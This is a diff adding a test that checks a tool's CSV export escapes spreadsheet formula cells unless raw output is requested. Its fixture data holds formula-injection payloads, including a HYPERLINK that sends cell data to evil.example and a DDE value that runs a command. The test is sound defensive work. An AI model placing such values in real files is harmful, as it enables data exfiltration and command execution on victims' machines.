@@ -923,3 +923,26 @@ def test_21_6_stats_reads_a_wal_database_in_a_read_only_folder(tmp_path, fake_pa
         assert refused.exit_code == 1 and "Traceback" not in refused.output
         assert "cannot write" in refused.output
     assert len((tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()) == 2
+
+
+def test_21_8_export_neutralises_formula_cells_unless_raw_is_asked_for(tmp_path, fake_parser):
+    import csv
+
+    formulas = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "outlet": "@SUM(1+1)*cmd|' /C calc'!A0", "author": "+1+1",
+                "published": "-2+3", "url": "\thttp://example.com/"}
+    feed = tmp_path / "feed.jsonl"
+    feed.write_text(json.dumps({"id": "=cmd", "text": SEED_000, **formulas}) + "\n",
+                    encoding="utf-8")
+    db_path = tmp_path / "quotes.db"
+    assert run("ingest", db_path, feed).exit_code == 0
+    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
+    assert run("export", db_path, "-t", "articles", "-o", safe).exit_code == 0
+    assert run("export", db_path, "-t", "articles", "-o", raw, "--raw-formulas").exit_code == 0
+    (safe_row,) = csv.DictReader(safe.open(encoding="utf-8", newline=""))
+    (raw_row,) = csv.DictReader(raw.open(encoding="utf-8", newline=""))
+    for field, value in {**formulas, "name": "=cmd"}.items():
+        assert raw_row[field] == value
+        assert safe_row[field] == "'" + value
+    assert safe_row["text"] == raw_row["text"] == SEED_000     # plain text untouched
+    assert safe_row["body_start"] == raw_row["body_start"]     # numbers too
